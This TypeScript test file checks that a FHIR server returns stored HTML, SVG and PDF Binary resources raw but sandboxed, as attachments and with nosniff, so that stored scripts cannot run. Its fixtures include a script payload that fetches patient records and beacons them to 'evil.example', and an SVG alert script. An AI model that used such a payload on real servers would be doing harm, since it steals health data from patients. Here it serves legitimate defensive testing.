import request from 'supertest';
import { createTestApp, FHIR_JSON, type TestApp } from '../support/test-app';

// A Binary's writer chooses its bytes and its content type. Answered raw, an HTML or SVG Binary with a script must not
// run as a page of the server's origin (attack sweep 9, Binary family: raw answers carried the stored type and nothing else).
let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => {
  await t.close();
});

const PAGE = '<html><body><script>fetch("/fhir/Patient").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example", t))</script></body></html>';

it.each([
  ['text/html', PAGE],
  ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
  ['application/pdf', '%PDF-1.4'],
])('answers a %s Binary raw with its bytes, sandboxed, as an attachment, never sniffed', async (contentType, content) => {
  const created = await request(t.app).post('/fhir/Binary').set('Content-Type', FHIR_JSON)
    .send({ resourceType: 'Binary', contentType, data: Buffer.from(content).toString('base64') });
  expect(created.status).toBe(201);
  const raw = await request(t.app).get(`/fhir/Binary/${created.body.id}`).set('Accept', contentType).buffer(true).parse((res, done) => {
    const chunks: Buffer[] = [];
    res.on('data', (c: Buffer) => chunks.push(c));
    res.on('end', () => done(null, Buffer.concat(chunks)));
  });
  expect(raw.status).toBe(200);
  expect([raw.headers['content-type'], (raw.body as Buffer).toString()]).toEqual([contentType, content]);
  expect(raw.headers['content-security-policy']).toBe("sandbox; default-src 'none'");
  expect(raw.headers['content-disposition']).toBe('attachment');
  expect(raw.headers['x-content-type-options']).toBe('nosniff');
  // The FHIR JSON form of the same Binary is an API answer, not a document: no sandbox needed, never sniffed either.
  const json = await request(t.app).get(`/fhir/Binary/${created.body.id}`).set('Accept', FHIR_JSON);
  expect([json.status, json.headers['x-content-type-options'], json.headers['content-disposition']]).toEqual([200, 'nosniff', undefined]);
});
